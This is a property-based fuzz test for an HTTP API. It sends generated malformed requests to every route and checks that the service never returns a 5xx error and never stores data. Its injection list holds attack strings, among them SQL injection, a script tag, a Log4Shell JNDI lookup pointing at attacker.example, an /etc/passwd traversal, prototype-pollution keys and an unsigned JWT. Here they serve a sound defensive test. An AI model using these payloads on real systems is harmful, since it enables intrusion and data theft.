import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { routes } from '../../shared/http/routes.ts';
import { defaultTestKey } from '../helpers/credentials.ts';
import { countAllItems } from '../helpers/dynamodb.ts';
import { startTestApi, type TestApi } from '../helpers/local-api.ts';
import { contractFetch } from '../helpers/json-client.ts';
import { detailsByChannel, touchpointBody } from '../fixtures/touchpoints.ts';

/**
 * Property-based hardening: at least 10,000 generated bad requests (wrong types, huge strings, deep
 * nesting, unicode edge cases including lone surrogates, injection strings in every field, header,
 * path and query parameter, duplicate JSON keys) at every route of the route table, through the
 * local server. Never a 5xx; nothing stored (the whole table is counted before and after, read
 * audit included). Every generated body carries at least one field no schema knows, so none of them
 * is valid by accident; path ids name nothing that exists.
 */
const requestsPerRoute = Math.ceil(10_000 / routes.length);
const parallelRequests = 16;

let api: TestApi;
let sent = 0;

beforeAll(async () => {
  api = await startTestApi();
});

afterAll(async () => {
  await api?.close();
});

const injections = [
  "' OR '1'='1",
  '"; DROP TABLE touchpoints; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%00',
  '\u0000',
  '__proto__',
  'constructor',
  '{"$gt":""}',
  'CUST#cus_01JDQ7ZKX3F8V6M2N4P5R7S9TB',
  'IDENT#phone#+442079460018',
  ':pk',
  'attribute_exists(pk) OR 1=1',
  '#status',
  '\u202e\u0041\u0042',
  '\ufeff',
  '\ud800',
  '\udfff\ud800',
  '😀'.repeat(300),
  'a'.repeat(5_000),
  '\r\n',
  'null',
  'NaN',
  '-1',
  '1e400',
  'cus_01JDQ7ZKX3F8V6M2N4P5R7S9TB',
  'tp_01JDQ7ZKX3F8V6M2N4P5R7S9TB',
  'key_00000000000000000000',
  '0'.repeat(64),
];

const weirdString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...injections) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 10 }) },
  { weight: 1, arbitrary: fc.nat({ max: 20_000 }).map((length) => 'x'.repeat(length)) },
);

const asciiString = fc.oneof(
  fc.constantFrom(...injections.filter((value) => /^[\x20-\x7e]*$/.test(value) && value.length < 2_000)),
  fc.string({ unit: fc.integer({ min: 0x21, max: 0x7e }).map((code) => String.fromCharCode(code)), maxLength: 60 }),
);

const leaf = fc.oneof(weirdString, fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.boolean(), fc.constant(null));
const badValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: leaf },
  { weight: 1, arbitrary: fc.array(leaf, { maxLength: 5 }) },
  { weight: 1, arbitrary: fc.dictionary(weirdString, leaf, { maxKeys: 4 }) },
  { weight: 1, arbitrary: fc.nat({ max: 60 }).map((depth) => nest(depth)) },
);

function nest(depth: number): unknown {
  let value: unknown = 'deep';
  for (let level = 0; level < depth; level += 1) value = level % 2 ? [value] : { a: value };
  return value;
}

/** A plausible body of each route, to mutate: the generated bad requests look almost right. */
function templateBody(functionName: string): Record<string, unknown> {
  switch (functionName) {
    case 'ingest-touchpoint':
      return { ...touchpointBody() };
    case 'ingest-touchpoint-batch':
      return { items: [touchpointBody({ channel: 'sms', details: { ...detailsByChannel.sms } })] };
    case 'create-api-key':
      return { name: 'fuzz', scopes: ['customers:read'] };
    case 'update-customer':
      return { displayName: 'Ada', traits: { vip: true } };
    case 'set-preferences':
      return { channels: { email: 'opted_in' }, receivedVia: 'call' };
    default:
      return { reason: 'fuzz', sourceCustomerId: 'cus_01JDQ7ZKX3F8V6M2N4P5R7S9TB', customerId: 'cus_01JDQ7ZKX3F8V6M2N4P5R7S9TB' };
  }
}

/** Sets a value at a random path of the template, and always adds a key no schema knows. */
function mutate(template: Record<string, unknown>, path: string[], value: unknown, unknownKey: string): unknown {
  const copy = structuredClone(template) as Record<string, unknown>;
  let target: Record<string, unknown> = copy;
  for (const [index, key] of path.entries()) {
    if (index === path.length - 1) target[key] = value;
    else {
      const next = target[key];
      if (typeof next !== 'object' || next === null) target[key] = {};
      target = target[key] as Record<string, unknown>;
    }
  }
  copy[`zz-${unknownKey}`] = value ?? 1;
  if (Array.isArray(copy.items)) copy.items = (copy.items as Array<Record<string, unknown>>).map((item) => ({ ...item, [`zz-${unknownKey}`]: 1 }));
  return copy;
}

const rawBody = fc.oneof(
  fc.constantFrom('{', '{"channel":', '[1,2', 'nul', '{"a":1,}', "{'a':1}", '\u0000', '', ' ', 'true', '"string"', '42', '[]'),
  fc.constantFrom('{"channel":"call","channel":"sms"}', '{"items":[],"items":[]}', '{"name":"a","scopes":["customers:read"],"name":"b"}'),
  fc.integer({ min: 33, max: 20_000 }).map((depth) => `${'['.repeat(depth)}${']'.repeat(depth)}`),
  fc.constantFrom('{"summary":"\\ud800"}', '{"\\udc00":1}', '{"name":"a\\udbff"}'),
  fc.constant(JSON.stringify({ ...touchpointBody(), summary: 'x'.repeat(300 * 1024) })),
);

const contentType = fc.constantFrom(
  'application/json',
  'application/json; charset=utf-8',
  'application/problem+json',
  'application/json; charset=utf-16',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/jsonx',
  '',
);

const authorization = fc.oneof(
  { weight: 9, arbitrary: fc.constant(`Bearer ${defaultTestKey}`) },
  { weight: 1, arbitrary: asciiString.map((value) => `Bearer ${value}`) },
  { weight: 1, arbitrary: fc.constantFrom('Basic dXNlcjpwYXNz', 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.', `Bearer ${'a'.repeat(4_000)}`, 'bearer') },
);

/** Path segments: anything, percent-encoded; a lone surrogate becomes bytes that are not UTF-8. */
function encodeSegment(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    return `${value
      .replace(/[\ud800-\udfff]/g, 'x')
      .split('')
      .map((char) => encodeURIComponent(char))
      .join('')}%ED%A0%80`;
  }
}

const queryKeys = [
  'phone',
  'email',
  'accountId',
  'invoiceNumber',
  'anonymousId',
  'customerId',
  'externalId',
  'limit',
  'cursor',
  'channel',
  'from',
  'to',
  'tier',
  'at',
  'purpose',
  'suppress',
  'status',
];

function requestFor(route: (typeof routes)[number]) {
  const hasBody = route.method === 'POST' || route.method === 'PUT' || route.method === 'PATCH';
  const template = templateBody(route.functionName);
  const body = hasBody
    ? fc.oneof(
        {
          weight: 3,
          arbitrary: fc
            .tuple(
              fc.array(
                fc.constantFrom(
                  ...Object.keys(template),
                  'identifiers',
                  'details',
                  'channel',
                  'source',
                  'occurredAt',
                  'summary',
                  'idempotencyKey',
                  'phone',
                  'value',
                ),
                { minLength: 1, maxLength: 3 },
              ),
              badValue,
              asciiString,
            )
            .map(([path, value, unknownKey]) => JSON.stringify(mutate(template, path, value, unknownKey))),
        },
        { weight: 2, arbitrary: rawBody },
        { weight: 1, arbitrary: badValue.map((value) => JSON.stringify(value) ?? 'null') },
      )
    : fc.constant(undefined);
  const parameters = fc.record(
    Object.fromEntries(
      [...route.path.matchAll(/\{(\w+)\+?\}/g)].map((match) => [
        match[1] as string,
        fc.oneof(weirdString, fc.constantFrom('cus_01JDQ7ZKX3F8V6M2N4P5R7S9TB', 'cus_00000000000000000000000000', 'key_00000000000000000000', 'f'.repeat(64))),
      ]),
    ),
  );
  return fc.record({
    parameters,
    query: fc.dictionary(fc.oneof(fc.constantFrom(...queryKeys), weirdString), weirdString, { maxKeys: 3 }),
    body,
    contentType,
    authorization,
    headers: fc.dictionary(
      fc.constantFrom('idempotency-key', 'x-forwarded-for', 'x-api-key', 'cookie', 'user-agent', 'x-amzn-trace-id', 'origin'),
      asciiString,
      { maxKeys: 3 },
    ),
  });
}

type GeneratedRequest = ReturnType<typeof requestFor> extends fc.Arbitrary<infer T> ? T : never;
const statusCounts = new Map<number, number>();

async function send(route: (typeof routes)[number], request: GeneratedRequest): Promise<number> {
  const path = route.path.replace(/\{(\w+)\+?\}/g, (_, name: string) => encodeSegment(String(request.parameters[name] ?? '')) || 'x');
  const search = new URLSearchParams();
  for (const [key, value] of Object.entries(request.query)) search.append(key, String(value));
  const query = search.size > 0 ? `?${search}` : '';
  const headers: Record<string, string> = { ...request.headers, authorization: request.authorization };
  if (request.body !== undefined && request.contentType) headers['content-type'] = request.contentType;
  const response = await contractFetch(`${api.url}${path}${query}`, {
    method: route.method,
    headers,
    ...(request.body !== undefined ? { body: request.body } : {}),
    signal: AbortSignal.timeout(30_000),
  });
  await response.arrayBuffer();
  sent += 1;
  statusCounts.set(response.status, (statusCounts.get(response.status) ?? 0) + 1);
  return response.status;
}

describe('hardening: generated bad requests at every route', () => {
  it(`never answers 5xx and never stores anything (${requestsPerRoute * routes.length} requests)`, async () => {
    const before = await countAllItems();
    const started = performance.now();

    for (const route of routes) {
      await fc.assert(
        fc.asyncProperty(fc.array(requestFor(route), { minLength: parallelRequests, maxLength: parallelRequests }), async (requests) => {
          const statuses = await Promise.all(requests.map((request) => send(route, request)));
          for (const status of statuses) expect(status, `${route.method} ${route.path}`).toBeLessThan(500);
        }),
        { numRuns: Math.ceil(requestsPerRoute / parallelRequests), endOnFailure: true },
      );
    }

    const seconds = (performance.now() - started) / 1000;
    const histogram = [...statusCounts]
      .sort(([a], [b]) => a - b)
      .map(([status, count]) => `${status}: ${count}`)
      .join(', ');
    console.log(`[hardening] ${sent} requests at ${routes.length} routes in ${seconds.toFixed(1)} s (${histogram})`);
    expect(sent).toBeGreaterThanOrEqual(10_000);
    expect(await countAllItems()).toBe(before);
  }, 600_000); // About 50-90 s alone on two cores; the margin is for a full parallel suite on a busy machine.
});
